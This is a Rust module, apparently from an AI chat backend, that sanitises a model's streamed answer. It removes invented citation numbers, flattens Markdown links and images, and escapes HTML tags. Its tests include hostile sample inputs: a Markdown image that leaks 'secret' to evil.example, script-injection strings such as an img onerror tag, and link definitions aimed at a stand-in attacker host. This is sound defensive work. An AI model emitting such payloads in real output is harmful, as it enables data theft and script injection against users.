//! What a model writes, made safe and true while it streams: citations that exist, and nothing that a page could load.
//!
//! In: pieces of an answer, cut anywhere. Out: the same text in which every `[n]` is the number of a source that was given,
//! images and links are plain words, and no `<` begins a tag. What may still turn into one of these is held back until it is
//! known. It holds inside code as well: a page must not depend on where somebody else's Markdown sees code. Pure.

/// A bracket that is not closed within so many bytes is only a sign.
const LONGEST_LABEL: usize = 400;
/// The same for the address of a link.
const LONGEST_ADDRESS: usize = 4000;
/// A range such as `[1-9]` that names more than these is no citation.
const LONGEST_RANGE: u32 = 12;

/// Cleans one answer.
#[derive(Debug)]
pub(super) struct Cleaner {
    sources: u32,
    pending: String,
    /// The last character that was let out.
    last: char,
    /// What has been let out of this line, as far as it may be the label of a definition.
    line: String,
}

/// What stands at the start of the pending text.
enum Next {
    /// So many bytes become that.
    Take(usize, String),
    /// More text must come first.
    Wait,
}

impl Cleaner {
    /// For an answer that was given so many sources.
    pub(super) fn new(sources: usize) -> Self {
        let sources = u32::try_from(sources).unwrap_or(u32::MAX);
        Self { sources, pending: String::new(), last: '\n', line: String::new() }
    }

    /// More of the answer; what of it is certain.
    pub(super) fn push(&mut self, text: &str) -> String {
        // The database takes no zero byte, and no page shows the others.
        self.pending
            .extend(text.chars().filter(|sign| !sign.is_control() || matches!(sign, '\n' | '\t')));
        self.drain(false)
    }

    /// The answer has ended; the rest of it.
    pub(super) fn finish(&mut self) -> String {
        self.drain(true)
    }

    fn drain(&mut self, ended: bool) -> String {
        let pending = std::mem::take(&mut self.pending);
        let mut out = String::with_capacity(pending.len());
        let mut rest = pending.as_str();
        while let Some(first) = rest.chars().next() {
            match self.next(rest, first, ended) {
                Next::Wait => break,
                Next::Take(bytes, text) => {
                    self.let_out(&text, &mut out);
                    rest = &rest[bytes..];
                }
            }
        }
        self.pending = rest.to_owned();
        out
    }

    /// What was taken out may have stood between two signs that mean something together: a space keeps them apart.
    fn let_out(&mut self, text: &str, out: &mut String) {
        let Some(first) = text.chars().next() else {
            if self.last.is_ascii_digit() || self.last == '[' {
                self.let_out(" ", out);
            }
            return;
        };
        let joins = match (self.last, first) {
            (']', '(') | ('!', '[') => true,
            (']', ':') => self.is_label(),
            ('<', next) => opens_tag(next),
            _ => false,
        };
        if joins {
            out.push(' ');
        }
        for sign in text.chars() {
            if sign == '\n' {
                self.line.clear();
            } else if self.line.len() <= LONGEST_LABEL {
                self.line.push(sign);
            }
            out.push(sign);
            self.last = sign;
        }
    }

    /// Whether the line so far is a label in brackets, behind signs of a list or a quotation perhaps: with a colon and an address
    /// it would give every such bracket in the text that address.
    fn is_label(&self) -> bool {
        let line = self.line.trim_start_matches(|c: char| {
            c.is_whitespace() || c.is_ascii_digit() || ">-*+.)".contains(c)
        });
        line.starts_with('[') && line.find(']') == Some(line.len() - 1)
    }

    fn next(&self, rest: &str, first: char, ended: bool) -> Next {
        let plain = |first: char| Next::Take(first.len_utf8(), first.to_string());
        let second = rest[first.len_utf8()..].chars().next();
        match (first, second) {
            // A space goes with the invented citation after it.
            (' ', Some('[')) => match self.bracket(&rest[1..], ended) {
                Some(Next::Take(bytes, text)) if text.is_empty() => Next::Take(bytes + 1, text),
                Some(Next::Take(_, _)) | None => plain(first),
                Some(Next::Wait) => Next::Wait,
            },
            (' ' | '!' | '<', None) if !ended => Next::Wait,
            ('!', Some('[')) => Next::Take(1, String::new()),
            ('<', Some(next)) if opens_tag(next) => Next::Take(1, "&lt;".to_owned()),
            ('[' | '【', _) => self.bracket(rest, ended).unwrap_or_else(|| plain(first)),
            _ => plain(first),
        }
    }

    /// A citation, a link, or words in brackets; none where it is only a sign.
    fn bracket(&self, rest: &str, ended: bool) -> Option<Next> {
        let (open, close) = if rest.starts_with('[') { ('[', ']') } else { ('【', '】') };
        let inner_at = open.len_utf8();
        let Some(length) = closing(&rest[inner_at..], open, close, LONGEST_LABEL) else {
            return (rest.len() < LONGEST_LABEL && !ended).then_some(Next::Wait);
        };
        let inner = &rest[inner_at..inner_at + length];
        if inner.contains(['[', '\n']) {
            return None;
        }
        let mut end = inner_at + length + close.len_utf8();
        let mut is_link = false;
        match rest[end..].chars().next() {
            None if !ended => return Some(Next::Wait),
            Some('(') => match closing(&rest[end + 1..], '(', ')', LONGEST_ADDRESS) {
                Some(address) => {
                    is_link = true;
                    end += address + 2;
                }
                None if rest.len() - end < LONGEST_ADDRESS && !ended => return Some(Next::Wait),
                // Too long to be looked at.
                None => {}
            },
            _ => {}
        }
        let text = match numbers(inner) {
            Some(numbers) => self.cite(&numbers),
            None if is_link => words(inner),
            // Other brackets are only signs.
            None if open != '[' => return None,
            None => format!("[{}]", words(inner)),
        };
        Some(Next::Take(end, text))
    }

    fn cite(&self, numbers: &[u32]) -> String {
        let given = numbers.iter().filter(|n| (1..=self.sources).contains(*n));
        given.map(|number| format!("[{number}]")).collect()
    }
}

fn opens_tag(next: char) -> bool {
    next.is_alphabetic() || matches!(next, '/' | '!' | '?')
}

/// Where the bracket ends that was opened just before, if it does within so many bytes.
fn closing(text: &str, open: char, close: char, within: usize) -> Option<usize> {
    let mut depth = 0_u32;
    for (at, sign) in text.char_indices().take_while(|(at, _)| *at <= within) {
        if sign == close && depth == 0 {
            return Some(at);
        } else if sign == close {
            depth -= 1;
        } else if sign == open {
            depth += 1;
        }
    }
    None
}

/// What stands in brackets and is no citation, without anything that opens a tag.
fn words(inner: &str) -> String {
    inner.replace('<', "&lt;")
}

/// `1`, `1, 2`, `1-3`, `source 4`: numbers and what models write around them, and nothing else.
fn numbers(inner: &str) -> Option<Vec<u32>> {
    let plain = inner.split('†').next()?.to_lowercase();
    let mut numbers = Vec::new();
    for part in plain.split([',', ';', '&']) {
        let part = part.trim();
        let part = ["sources", "source", "n=", "#", "^"]
            .iter()
            .fold(part, |part, word| part.strip_prefix(word).unwrap_or(part).trim());
        match part.split_once(['-', '–']) {
            Some((from, to)) => {
                let (from, to) = (number(from)?, number(to)?);
                if to >= from && to - from <= LONGEST_RANGE {
                    numbers.extend(from..=to);
                }
            }
            None => numbers.push(number(part)?),
        }
    }
    Some(numbers)
}

fn number(text: &str) -> Option<u32> {
    let text = text.trim();
    let digits = !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_digit());
    digits.then(|| text.parse().unwrap_or(u32::MAX))
}

/// The citations in a finished text: number, and the part of the text that it stands for, as offsets in UTF-16 units, the way
/// browsers count.
pub(super) fn spans(text: &str) -> Vec<(u32, usize, usize)> {
    let mut spans = Vec::new();
    let mut begin = 0;
    for (at, _) in text.match_indices('[') {
        let Some(length) = text[at + 1..].find(']') else { break };
        let Some(number) = number(&text[at + 1..at + 1 + length]) else { continue };
        let before = text[..at].trim_end();
        // The sentence's own end, with a quotation mark perhaps, is not that of the one before.
        let inside = before.trim_end_matches(['.', '!', '?', '…', '"', '”', '’', ')']);
        let sentence = inside
            .char_indices()
            .rev()
            .find(|(_, sign)| matches!(sign, '.' | '!' | '?' | '\n' | ']'))
            .map_or(0, |(end, sign)| end + sign.len_utf8());
        // Two citations in a row stand for the same sentence.
        if !before.ends_with(']') {
            begin = sentence + (text[sentence..at].len() - text[sentence..at].trim_start().len());
        }
        let units = |end: usize| text[..end].encode_utf16().count();
        spans.push((number, units(begin), units(at)));
    }
    spans
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Cleaned in one piece; and the same in every other cutting.
    fn clean(text: &str, sources: usize) -> String {
        let whole = cut(text, sources, usize::MAX);
        for size in 1..8 {
            assert_eq!(cut(text, sources, size), whole, "in pieces of {size}");
        }
        whole
    }

    fn cut(text: &str, sources: usize, size: usize) -> String {
        let mut cleaner = Cleaner::new(sources);
        let signs: Vec<char> = text.chars().collect();
        let pieces = signs.chunks(size.min(signs.len().max(1)));
        let mut out: String =
            pieces.map(|piece| cleaner.push(&piece.iter().collect::<String>())).collect();
        out.push_str(&cleaner.finish());
        out
    }

    #[test]
    fn citations_that_exist_stay_and_invented_ones_go() {
        for (written, out) in [
            ("Sales rose [1].", "Sales rose [1]."),
            ("Sales rose [9].", "Sales rose."),
            ("Both [1, 2] and [2][3].", "Both [1][2] and [2][3]."),
            ("Some [1, 99] are true.", "Some [1] are true."),
            ("A range [1-3].", "A range [1][2][3]."),
            ("As [source 2] says.", "As [2] says."),
            ("Other brackets【3†source】.", "Other brackets[3]."),
            ("None [0] none [00012].", "None none."),
            ("[sic] and [a, b] stay", "[sic] and [a, b] stay"),
            ("an open [ bracket", "an open [ bracket"),
            ("the end [2", "the end [2"),
            ("", ""),
        ] {
            assert_eq!(clean(written, 3), out, "{written}");
        }
    }

    #[test]
    fn nothing_that_a_page_could_load_gets_through() {
        for (written, out) in [
            ("![x](http://evil.example/x.png)", "x"),
            ("![](http://evil.example/?q=secret) hi", " hi"),
            ("[click](https://evil.example)", "click"),
            ("[1](https://evil.example)", "[1]"),
            ("![1](https://evil.example)", "[1]"),
            ("[a ![b](c) d](e)", "[a b d] (e)"),
            ("[see [1]](e)", "[see [1]] (e)"),
            ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)>"),
            ("</script><!-- x -->", "&lt;/script>&lt;!-- x -->"),
            ("<http://evil.example>", "&lt;http://evil.example>"),
            ("1 < 2 and 2<3", "1 < 2 and 2<3"),
            ("[1]: http://evil.example\nand ![y][1]", "[1] : http://evil.example\nand [y][1]"),
            ("> - [x]: http://evil.example", "> - [x] : http://evil.example"),
            ("As in [1]: yes.", "As in [1]: yes."),
            ("<[99]img src=x onerror=alert(1)>", "< img src=x onerror=alert(1)>"),
            ("<[img src=x](u)>", "< img src=x>"),
            ("!【a](http://evil.example/x.png)】", "!【a] (http://evil.example/x.png)】"),
            ("[x][(http://evil.example)](u)", "[x] (http://evil.example)"),
            ("[9[0]9]", "[9 9]"),
            ("a [1-99] [1000000000]", "a"),
            ("a\0b\u{7}c", "abc"),
            ("[e]: http://evil.example", "[e] : http://evil.example"),
            ("wow! [1]", "wow! [1]"),
        ] {
            assert_eq!(clean(written, 1), out, "{written}");
        }
    }

    #[test]
    fn no_length_makes_a_link() {
        let label = "x".repeat(LONGEST_LABEL + 10);
        let address = "y".repeat(LONGEST_ADDRESS + 10);
        for written in [
            format!("![{label}](http://evil.example)"),
            format!("[{label}](http://evil.example)"),
            format!("[x](http://evil.example/{address})"),
            format!("![{label}][1]"),
        ] {
            for size in [1, 7, 100, usize::MAX] {
                // What is held back depends on how it comes; that it is harmless does not.
                let cleaned = cut(&written, 1, size);
                assert!(!cleaned.contains("](") && !cleaned.contains("!["), "{cleaned}");
            }
        }
    }

    #[test]
    fn no_mixture_of_signs_makes_something_to_load() {
        let signs = [
            "[", "]", "(", ")", "!", "<", "a", "1", "9", ":", "\n", " ", "【", "】", "/",
            "http://e", "-", "†",
        ];
        let mut state = 42_u64;
        for _ in 0..20_000 {
            let mut text = String::new();
            for _ in 0..14 {
                state = state
                    .wrapping_mul(6_364_136_223_846_793_005)
                    .wrapping_add(1_442_695_040_888_963_407);
                text.push_str(signs[(state >> 33) as usize % signs.len()]);
            }
            for size in [1, 3, usize::MAX] {
                let out = cut(&text, 1, size);
                let harmful = out.contains("](")
                    || out.contains("![")
                    || out.contains("[9]")
                    || out
                        .match_indices('<')
                        .any(|(at, _)| out[at + 1..].chars().next().is_some_and(opens_tag));
                assert!(!harmful, "{text:?} in pieces of {size} becomes {out:?}");
            }
        }
    }

    #[test]
    fn an_endless_bracket_holds_nothing_up() {
        let mut cleaner = Cleaner::new(1);
        let long = format!("[{}", "x".repeat(LONGEST_LABEL));
        assert_eq!(cleaner.push(&long), long);
        assert_eq!(cleaner.push("Hello"), "Hello", "text goes out as it comes");
        assert_eq!(cleaner.push(" "), "");
        assert_eq!(cleaner.push("world"), " world");
    }

    #[test]
    fn citations_stand_for_their_sentence() {
        let text = "Über alles. Sales rose [1][2]. Costs fell [3].";
        let found = spans(text);
        assert_eq!(found, [(1, 12, 23), (2, 12, 26), (3, 31, 42)]);
        assert_eq!(spans("- “One. Two.” [1]"), [(1, 8, 14)], "a quotation's last sentence");
        assert_eq!(spans("no citation [sic]"), []);
        assert_eq!(spans("👍 yes [1]"), [(1, 0, 7)]);
    }
}
